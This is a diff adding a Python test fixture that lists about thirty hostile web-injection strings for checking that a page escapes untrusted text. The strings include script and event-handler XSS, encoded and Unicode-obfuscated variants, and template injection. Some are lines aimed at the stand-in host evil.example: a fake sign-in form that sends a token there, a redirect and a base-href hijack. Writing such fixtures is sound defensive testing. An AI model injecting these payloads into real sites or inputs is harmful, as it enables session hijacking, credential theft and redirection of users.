@@ -1,0 +1,36 @@
+"""Texts that act where a page forgets that they are texts. Written for these tests."""
+
+from __future__ import annotations
+
+HOSTILE = (
+    "<script>alert('ran')</script>",
+    "</script><script>alert('ran')</script>",
+    "<img src=x onerror=alert('ran')>",
+    '"><img src=x onerror=alert("ran")>',
+    "'><svg onload=alert('ran')>",
+    '" autofocus onfocus=alert("ran") x="',
+    "</textarea><script>alert('ran')</script>",
+    "</title><script>alert('ran')</script>",
+    "</mark></blockquote><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<a href=\"javascript:alert('ran')\">read more</a>",
+    "javascript:alert('ran')",
+    "<form action=//evil.example><input name=token><button>Sign in</button></form>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>*{display:none}</style>",
+    "<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror=alert('ran')>",
+    "<!--><script>alert('ran')</script>-->",
+    "<![CDATA[<script>alert('ran')</script>]]>",
+    "{{ 7 * 7 }}{% for x in [1] %}{{ person.csrf }}{% endfor %}",
+    "${alert('ran')}#{alert('ran')}",
+    "&lt;script&gt;alert('ran')&lt;/script&gt;",
+    "&#60;script&#62;alert('ran')&#60;/script&#62;",
+    "＜script＞alert('ran')＜/script＞",
+    "%3Cscript%3Ealert('ran')%3C/script%3E",
+    "+ADw-script+AD4-alert('ran')+ADw-/script+AD4-",
+    "\u202e<tpircs>\u202c\u2066hidden\u2069",
+    "a\u200bb\u200cc\u200dd\ufeffe",
+    "<dialog open id=help><button>Promote</button></dialog>",
+    "<input type=radio name=resolution value=promote checked form=decide>",
+)
